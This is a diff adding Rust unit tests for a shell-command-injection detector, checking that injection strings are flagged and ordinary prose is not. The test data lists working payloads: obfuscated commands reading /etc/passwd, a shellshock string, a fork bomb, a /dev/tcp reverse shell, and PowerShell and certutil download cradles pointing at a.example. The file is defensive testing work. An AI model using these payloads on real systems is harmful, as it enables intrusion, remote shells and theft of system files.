@@ -1,0 +1,153 @@
+use super::super::{Class, Strength, hits_of};
+
+fn strength(value: &str) -> Option<Strength> {
+    hits_of(value.as_bytes())
+        .into_iter()
+        .find_map(|(class, strength)| (class == Class::Shell).then_some(strength))
+}
+
+fn all_caught(values: &[&str]) {
+    for value in values {
+        assert_eq!(strength(value), Some(Strength::Decisive), "{value}");
+    }
+}
+
+fn all_pass(values: &[&str]) {
+    for value in values {
+        let found = strength(value);
+        assert!(
+            found.is_none_or(|found| found < Strength::Decisive),
+            "{value}"
+        );
+    }
+}
+
+#[test]
+fn a_command_behind_a_separator_is_a_command() {
+    all_caught(&[
+        "127.0.0.1; id",
+        "x;whoami",
+        "a | cat /etc/passwd",
+        "a && ls -la",
+        "x|uname -a",
+        "8.8.8.8\nid",
+        "; sleep 10",
+        "x & ping -c 3 10.0.0.1 &",
+        "x;reg add HKLM\\Software\\X /v y /d 1 /f",
+        "| nslookup a.example",
+        ";/usr/bin/id\\n",
+        "x; . ./run.sh -x",
+        "name;kill '-'9 1",
+        "x;sudo -u root id",
+        ";\n.shell nc 10.0.0.1 99 -e sh",
+    ]);
+}
+
+#[test]
+fn a_torn_command_is_read_whole() {
+    all_caught(&[
+        ";c'a't /etc/passwd",
+        ";c\"a\"t /etc/passwd",
+        ";c\\at /etc/passwd",
+        "x;w^h^o^a^m^i",
+        "x;cat$u /etc$u/passwd",
+        "x;c$@at /etc/passwd",
+        "una$$me -a",
+        "pi``ng 127.0.0.1",
+        "pi$()ng 127.0.0.1",
+        "x;/bin/ca? /etc/p*",
+        "x;/???/c?t /???/p??s??",
+        "/usr/bin/[u]name -a",
+        "{cat,/etc/passwd}",
+        "c{a,oun}t",
+        "{,ip,a}",
+        "x;cat${IFS}/etc/passwd",
+        "x;a=cat;$a /etc/passwd",
+        "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
+    ]);
+}
+
+#[test]
+fn substitutions_functions_and_variables_run() {
+    all_caught(&[
+        "$(id)",
+        "`id`",
+        "x$(cat file)",
+        "<(cat file)",
+        "() { :; }; /bin/id",
+        "() { x;}; id",
+        "f(){ f|f& };f",
+        "${PATH:0:1}bin${PATH:0:1}id",
+        "%COMSPEC% /c dir",
+        "%PROGRAMFILES:~10,1%",
+        "%x(ls -al)",
+        "--output=/var/www/x.php",
+        "-oProxyCommand=id",
+        "alias x=curl;x a.example",
+        "bash -i >& /dev/tcp/10.0.0.1/99 0>&1",
+        "echo aWQ= | base64 -d | sh",
+        "powershell -enc SQBFAFgA",
+        "powershell IEX(New-Object Net.WebClient).DownloadString('http://a.example/x')",
+        "certutil -urlcache -f http://a.example/x x.exe",
+        "cmd.exe /c whoami",
+        "C:\\Windows\\System32\\cmd.exe /c dir",
+        "if not exist x.txt (copy a b)",
+        "FOR /F %a IN (dirs) DO x",
+    ]);
+}
+
+#[test]
+fn prose_and_names_pass() {
+    all_pass(&[
+        "Tom & Jerry; John",
+        "R&D",
+        "who is this; more to come",
+        "a cat; find it",
+        "sort by price; then kill the lights",
+        "hello; time he came",
+        "a hero; more than",
+        "time warner",
+        "Times & Schedule",
+        "head of sales",
+        "find x for y",
+        "CD / DVD player",
+        "Axel Smith",
+        "bash;sed;awk",
+        "linux|bash|zsh",
+        "Skills: python; perl; php",
+        "top 10 | best of",
+        "the cat & dog show",
+        "last name; first name",
+        "C: drive is full",
+        "function test() { return 1 }",
+        "myfunction(){ echo hello }",
+        "let x = (a) => { return a; }",
+        "price: $(25)",
+        "${name} ordered ${count}",
+        "${user.name:default}",
+        "Dear {first,last}",
+        "{id,name,email}",
+        "{\"a\":[1,2],\"b\":{}}",
+        "100%x(2)",
+        "-5",
+        "--",
+        "- item one\n- item two",
+        "it's a dog's life; isn't it",
+        "/posts/[slug]/edit",
+        "/a?b=1?",
+        "what? where? when?",
+        "a ^ b ^ c",
+        "man, look at that; free stuff",
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
+    ]);
+}
+
+#[test]
+fn hostile_text_of_any_shape_stays_in_bounds() {
+    for unit in [
+        "$", "`", "{", "/", "\\", ";", "|a", "$(", "f(){", "[a", "%", "'\"", "/???", "x=1;$",
+    ] {
+        let text = unit.repeat(2000);
+        let _ = strength(&text);
+    }
+}
